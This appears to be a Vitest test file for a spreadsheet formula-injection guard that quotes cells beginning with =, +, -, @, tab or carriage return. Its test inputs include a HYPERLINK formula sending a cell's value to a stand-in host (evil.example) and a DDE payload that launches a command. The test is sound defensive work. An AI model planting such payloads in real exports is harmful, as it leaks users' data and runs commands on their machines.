import { describe, expect, it } from 'vitest';
import { neutralizeFormula } from './spreadsheet-safety';

describe('neutralizeFormula', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://evil.example?x="&A1,"click")', '\'=HYPERLINK("http://evil.example?x="&A1,"click")'],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['-', "'-"],
    ['+86 138 0000 0000', "'+86 138 0000 0000"],
    ['-1e5', "'-1e5"],
  ])('quotes %j', (input, expected) => {
    expect(neutralizeFormula(input)).toBe(expected);
  });

  it('leaves plain signed numbers given as strings unchanged (documented choice)', () => {
    expect(neutralizeFormula('-1200')).toBe('-1200');
    expect(neutralizeFormula('-1200.50')).toBe('-1200.50');
    expect(neutralizeFormula('+3')).toBe('+3');
  });

  it('leaves harmless strings unchanged', () => {
    for (const s of ['', '张三', '1200', 'a=b', ' =1+1', "'=1+1", 'x@y.com']) {
      expect(neutralizeFormula(s)).toBe(s);
    }
  });

  it('is idempotent', () => {
    const once = neutralizeFormula('=1+1');
    expect(neutralizeFormula(once)).toBe(once);
  });

  it('never touches non-strings', () => {
    const date = new Date(0);
    const obj = { a: 1 };
    for (const v of [-1200, 0, Number.NaN, null, undefined, true, date, obj]) {
      expect(neutralizeFormula(v)).toBe(v);
    }
  });
});
